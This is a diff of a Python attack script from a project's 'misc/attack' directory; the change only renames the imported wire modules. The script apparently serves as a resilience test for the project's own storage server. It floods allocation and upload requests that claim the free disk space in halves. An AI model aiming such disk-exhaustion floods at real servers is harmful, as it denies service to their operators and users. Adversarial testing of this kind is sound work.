@@ -6,13 +6,13 @@ import os
 
 from misc.attack.insiders import lease, line_of, lines
 from misc.attack.target import Target, again_and_again, from_command_line
-from pipegrid.wire import gbs_messages
+from pipegrid.wire import gbs_cbor_bodies, gbs_paths_headers
 
 
 def attack(target: Target) -> None:
     """Take all the room there is, in halves of what is left."""
     request = target.requests.request
-    secret = {gbs_messages.UPLOAD_SECRET: b"u" * 32}
+    secret = {gbs_paths_headers.UPLOAD_SECRET: b"u" * 32}
     with lines(target, 4) as line:
         for turn in again_and_again(target, 0.01):
             disk = os.statvfs(target.directory)
@@ -23,16 +23,16 @@ def attack(target: Target) -> None:
                 [
                     request(
                         "POST",
-                        gbs_messages.allocate_path(index),
+                        gbs_paths_headers.allocate_path(index),
                         *headers,
-                        body=gbs_messages.pack_allocate(frozenset({number}), room >> number),
+                        body=gbs_cbor_bodies.pack_allocate(frozenset({number}), room >> number),
                     )
                     for number in range(40)
                 ]
                 + [
                     request(
                         "PATCH",
-                        gbs_messages.share_path(index, 0),
+                        gbs_paths_headers.share_path(index, 0),
                         *line_of(secret),
                         b"Content-Range: bytes 0-0/*",
                         body=b"x",
